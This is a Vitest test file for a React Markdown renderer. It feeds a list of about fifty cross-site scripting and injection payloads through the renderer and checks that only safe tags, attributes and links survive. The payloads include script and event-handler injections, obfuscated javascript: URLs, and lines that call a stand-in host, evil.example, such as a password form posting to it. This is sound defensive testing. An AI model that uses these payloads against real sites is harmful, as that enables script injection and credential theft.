import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { RichText } from '@/components/texts/rich-text';
import { readMarkdown } from './markdown';

const place = { locale: 'en', country: 'kz', asOf: '2020-01-01' } as const;

function draw(source: string, options: Parameters<typeof readMarkdown>[1] = {}): string {
  const parts = { scale: '[scale]', voices: '[voices]', conflicts: '[conflicts]' };
  return renderToStaticMarkup(
    createElement(RichText, { text: readMarkdown(source, options), place, parts }),
  );
}

/** Well-known ways to bring a script, a frame, a style or another host into a page. */
const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<style>*{background:url(//evil.example)}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password></form>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<details open ontoggle=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#x0A;script:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](//evil.example/x)',
  '[x](/\\evil.example/x)',
  '[x](\\\\evil.example)',
  '[x](https:evil.example)',
  '[x](../../api/auth/signout)',
  '[x](/api/auth/signout)',
  '[x](corrections/%2e%2e/%2e%2e/%2e%2e/api)',
  '[x](blob:https://evil.example/1)',
  '[x](https://example.org/"onmouseover="alert(1))',
  '[x](https://example.org "t\\" onmouseover=alert(1) x=\\"")',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](https://evil.example/pixel.gif)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x][y]\n\n[y]: https://evil.example/pixel.gif',
  '```html"onclick=alert(1)\n<script>alert(1)</script>\n```',
  '# <img src=x onerror=alert(1)> {#content}',
  '## x {#"onclick=alert(1)}',
  '**<b onclick=alert(1)>x</b>**',
  '`<script>alert(1)</script>`',
  '> <script>alert(1)</script>',
  '* <svg/onload=alert(1)>',
] as const;

const allowedTags =
  /^<\/?(section|div|p|h[2-4]|ul|ol|li|blockquote|pre|code|em|strong|br|hr|a)(?=[\s/>])/;
const allowedAttributes = /^(class|id|aria-labelledby|href|rel|start)$/;

describe('a text in Markdown', () => {
  it.each(hostile)('makes nothing but words of %s', (source) => {
    const html = draw(source);
    for (const [tag] of html.matchAll(/<[^>]*>/g)) {
      expect(tag).toMatch(allowedTags);
      for (const [, name = '', value = ''] of tag.matchAll(/\s([^\s=]+)="([^"]*)"/g)) {
        expect(name).toMatch(allowedAttributes);
        if (name === 'href') expect(value).toMatch(/^(https:\/\/example\.org\/|\/en\/kz\/)/);
        if (name === 'id') expect(value).toMatch(/^text-/);
      }
    }
  });

  it('shows HTML as it was typed, and a picture as the words that stand for it', () => {
    expect(draw('A <b>word</b>.')).toContain('A &lt;b&gt;word&lt;/b&gt;.');
    expect(draw('![A map](https://example.org/a.png)')).toContain('<p>A map</p>');
  });

  it('starts its headings below the title of the page and skips no level', () => {
    const levels = (source: string) => [...draw(source).matchAll(/<h(\d)/g)].map(([, n]) => n);
    expect(levels('# A\n\n## B\n\n#### C\n\n# D')).toEqual(['2', '3', '4', '2']);
    expect(levels('### A\n\n###### B\n\n### C')).toEqual(['2', '3', '2']);
    expect(levels('> # Quoted')).toEqual([]);
  });

  it('keeps the anchors that others know, and makes others apart from those of the page', () => {
    const html = draw('## Who {#voices}\n\n## Who\n\n## Who\n\n## Кто ещё {#content}', {
      anchors: ['voices'],
    });
    const ids = [...html.matchAll(/<h2 id="([^"]+)"/g)].map(([, id]) => id);
    expect(ids).toEqual(['voices', 'text-who', 'text-who-2', 'text-кто-ещё']);
  });

  it('leads within the country and its moment, and to others without saying where from', () => {
    expect(draw('[x](recommendations?contest=CLOSE&contest=CONTESTED)')).toContain(
      'href="/en/kz/recommendations?asOf=2020-01-01&amp;contest=CLOSE&amp;contest=CONTESTED"',
    );
    expect(draw('[x](https://example.org/a)')).toContain(
      '<a href="https://example.org/a" rel="noopener noreferrer external">x</a>',
    );
    expect(draw('[x](mailto:desk@example.org) [y](#voices)')).toContain(
      '<a href="mailto:desk@example.org">x</a> <a href="#voices">y</a>',
    );
  });

  it('puts what is computed where the text names it, and never loses it', () => {
    const parts = ['scale', 'voices', 'conflicts'] as const;
    const html = draw('{scale}\n\n## Who\n\nWords.\n\n{voices}\n\n{scale}', { parts });
    const order = ['[scale]', 'Who', 'Words.', '[voices]', '{scale}', '[conflicts]'];
    const found = order.map((words) => html.indexOf(words));
    expect(found).not.toContain(-1);
    expect(found).toEqual([...found].sort((a, b) => a - b));
  });
});
